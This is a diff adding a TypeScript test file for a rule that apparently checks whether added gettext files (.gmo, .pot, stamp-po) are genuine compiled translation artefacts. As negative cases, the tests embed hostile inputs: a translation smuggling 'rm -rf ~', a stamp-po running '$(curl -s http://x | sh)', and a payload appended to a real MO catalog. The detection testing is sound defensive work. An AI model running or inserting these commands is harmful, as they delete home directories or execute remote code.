@@ -1,0 +1,118 @@
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { gettextCatalog } from '../../src/analyze/rules/gettext-catalog.js';
+import { added, context } from './generated-context.js';
+
+const po = `# French translation
+msgid ""
+msgstr ""
+"Project-Id-Version: hello 1.0\\n"
+"Content-Type: text/plain; charset=UTF-8\\n"
+
+#: src/main.c:10
+msgid "Hello"
+msgstr "Bonjour"
+
+#: src/main.c:12
+#, c-format
+msgid "%d file"
+msgid_plural "%d files"
+msgstr[0] "%d fichier"
+msgstr[1] "%d fichiers"
+
+#, fuzzy
+msgid "Goodbye"
+msgstr "Salut"
+`;
+
+/** A minimal MO catalog, as msgfmt writes it (strings sorted, NUL-terminated). */
+function mo(pairs: Array<[string, string]>, bigEndian = false): Buffer {
+  const sorted = [...pairs].sort(([a], [b]) => (a < b ? -1 : 1));
+  const n = sorted.length;
+  const header = 28;
+  const tables = header + 16 * n;
+  const strings: Buffer[] = [];
+  const ids: Array<[number, number]> = [];
+  const strs: Array<[number, number]> = [];
+  let at = tables;
+  for (const list of [0, 1]) {
+    for (const pair of sorted) {
+      const b = Buffer.from(pair[list]!);
+      (list === 0 ? ids : strs).push([b.length, at]);
+      strings.push(b, Buffer.alloc(1));
+      at += b.length + 1;
+    }
+  }
+  const out = Buffer.alloc(tables);
+  const w = (v: number, o: number) => (bigEndian ? out.writeUInt32BE(v, o) : out.writeUInt32LE(v, o));
+  w(0x950412de, 0);
+  w(0, 4);
+  w(n, 8);
+  w(header, 12);
+  w(header + 8 * n, 16);
+  ids.forEach(([l, o], i) => (w(l, header + 8 * i), w(o, header + 8 * i + 4)));
+  strs.forEach(([l, o], i) => (w(l, header + 8 * n + 8 * i), w(o, header + 8 * n + 8 * i + 4)));
+  return Buffer.concat([out, ...strings]);
+}
+
+const translations: Array<[string, string]> = [
+  ['', 'Project-Id-Version: hello 1.0\nContent-Type: text/plain; charset=UTF-8\n'],
+  ['Hello', 'Bonjour'],
+  ['%d file\0%d files', '%d fichier\0%d fichiers'],
+];
+
+test('a .gmo whose translations are all in the tag .po is explained, in either byte order', async () => {
+  const ctx = context({ 'po/fr.po': po, 'po/POTFILES.in': 'src/main.c\n' });
+  for (const bigEndian of [false, true]) {
+    const j = await gettextCatalog.judge(added('po/fr.gmo', mo(translations, bigEndian)), ctx);
+    assert.is(j?.category, 'gettext-catalog');
+    assert.is(j?.severity, 'low');
+    assert.match(j!.reasons[1]!, 'all 2 translations');
+  }
+});
+
+test('a .gmo is not explained without the magic, without its .po, or with a translation the .po lacks', async () => {
+  const ctx = context({ 'po/fr.po': po });
+  const noMagic = mo(translations);
+  noMagic.writeUInt32LE(0x12345678, 0);
+  assert.is(await gettextCatalog.judge(added('po/fr.gmo', noMagic), ctx), undefined);
+  assert.is(await gettextCatalog.judge(added('po/de.gmo', mo(translations)), ctx), undefined);
+  // The fuzzy guess is not in effect in the .po, so a catalog carrying it was not compiled from it.
+  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo([...translations, ['Goodbye', 'Salut']])), ctx), undefined);
+  assert.is(await gettextCatalog.judge(added('po/fr.gmo', mo([['Hello', 'Bonjour; rm -rf ~']])), ctx), undefined);
+  // Bytes no table points to: a payload riding in a genuine catalog.
+  const payload = Buffer.concat([mo(translations), Buffer.alloc(4096, 0x41)]);
+  assert.is(await gettextCatalog.judge(added('po/fr.gmo', payload), ctx), undefined);
+});
+
+const pot = `# SOME DESCRIPTIVE TITLE.
+#, fuzzy
+msgid ""
+msgstr ""
+"Project-Id-Version: hello 1.0\\n"
+"POT-Creation-Date: 2023-01-11 19:01+0200\\n"
+"Content-Type: text/plain; charset=CHARSET\\n"
+
+#: src/main.c:10
+msgid "Hello"
+msgstr ""
+`;
+
+test('a .pot template with a gettext header next to POTFILES.in is explained; one with translations is not', async () => {
+  const ctx = context({ 'po/POTFILES.in': 'src/main.c\n' });
+  const j = await gettextCatalog.judge(added('po/hello.pot', pot), ctx);
+  assert.is(j?.category, 'gettext-catalog');
+  assert.match(j!.reasons[1]!, 'po/POTFILES.in');
+  assert.is(await gettextCatalog.judge(added('po/hello.pot', pot.replace('msgstr ""\n', 'msgstr "Bonjour"\n').replace(/msgstr ""\n$/, 'msgstr "x"\n')), ctx), undefined);
+  assert.is(await gettextCatalog.judge(added('po/hello.pot', '#!/bin/sh\necho hi\n'), ctx), undefined);
+  assert.is(await gettextCatalog.judge(added('lib/hello.pot', pot), ctx), undefined);
+});
+
+test('stamp-po holds a timestamp; anything longer is not a stamp', async () => {
+  const ctx = context({ 'po/POTFILES.in': 'src/main.c\n' });
+  assert.is((await gettextCatalog.judge(added('po/stamp-po', 'timestamp\n'), ctx))?.category, 'gettext-catalog');
+  assert.is(await gettextCatalog.judge(added('po/stamp-po', 'timestamp\n$(curl -s http://x | sh)\n'), ctx), undefined);
+  assert.is(await gettextCatalog.judge(added('src/stamp-po', 'timestamp\n'), ctx), undefined);
+});
+
+test.run();
